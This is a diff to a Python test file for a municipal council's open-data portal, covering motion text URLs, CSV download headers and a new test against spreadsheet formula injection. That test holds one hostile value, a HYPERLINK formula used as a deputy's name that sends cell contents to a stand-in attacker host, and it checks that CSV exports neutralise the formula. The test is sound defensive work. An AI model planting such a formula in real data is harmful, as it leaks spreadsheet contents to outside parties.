@@ -73,7 +73,8 @@ async def test_motions_and_votings_follow_the_votes_in_both_formats(demo_council
     published = await demo.client.post("/api/v1/documents/pr-101/commands", json=command, headers=headers)
     assert published.status_code == 200, published.text
     first, second = (await demo.client.get("/opendata/ua835/motions.json?session=c8-s45")).json()
-    assert first["textUrl"] == f"{demo.server.kvorum.settings.site_url}/decisions/pr-101" and second["textUrl"] == ""
+    port = demo.server.url.rsplit(":", 1)[1]  # the address the server listens on, not the Host header
+    assert first["textUrl"] == f"http://localhost:{port}/decisions/pr-101" and second["textUrl"] == ""
     rows = await _csv(demo, "/opendata/ua835/motions.csv?session=c8-s45")
     assert [r["textUrl"] for r in rows] == [first["textUrl"], ""]
     by_convocation = (await demo.client.get("/opendata/ua835/motions.json?convocation=8")).json()
@@ -113,7 +114,10 @@ async def test_every_csv_set_has_a_bom_a_header_crlf_and_yes_no_in_ukrainian(dem
     for name, header in fields.items():
         response = await demo.client.get(f"/opendata/ua835/{name}.csv")
         assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
-        assert response.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
+        assert (
+            response.headers["content-disposition"]
+            == f"attachment; filename=\"{name}.csv\"; filename*=UTF-8''{name}.csv"
+        )
         body = response.content
         assert body.startswith("\ufeff".encode()) and body.count("\ufeff".encode()) == 1, name
         text = body.decode("utf-8-sig")
@@ -171,3 +175,23 @@ async def test_kvorum_portal_rebuild_from_the_command_line(
     assert code == 0, err
     assert "opendata:" in out and "outcomes:" in out
     assert (await demo.client.get("/opendata/ua835/votings.json")).json() == before  # … and rebuilt the same
+
+
+async def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(demo_council: Demo) -> None:
+    demo = demo_council
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Відкрити")'
+    updated = await demo.client.post(
+        "/api/v1/council/commands",
+        json={"id": "rename", "type": "deputy.update", "deputy": "d01", "name": formula},
+        headers=await demo.headers("secretary"),
+    )
+    assert updated.status_code == 200, updated.text
+    await _session_with_two_votes(demo)
+    await _json(demo, "/opendata/ua835/votings.json")
+    for name, field in (("deputies", "name"), ("votings", "voterName")):
+        rows = await _csv(demo, f"/opendata/ua835/{name}.csv")
+        cells = [r[field] for r in rows if formula in r[field]]
+        assert cells and all(cell == "'" + formula for cell in cells), (name, cells)
+    # the JSON keeps the name as it is: programs read it as text
+    deputies = (await demo.client.get("/opendata/ua835/deputies.json")).json()
+    assert formula in [d["name"] for d in deputies]
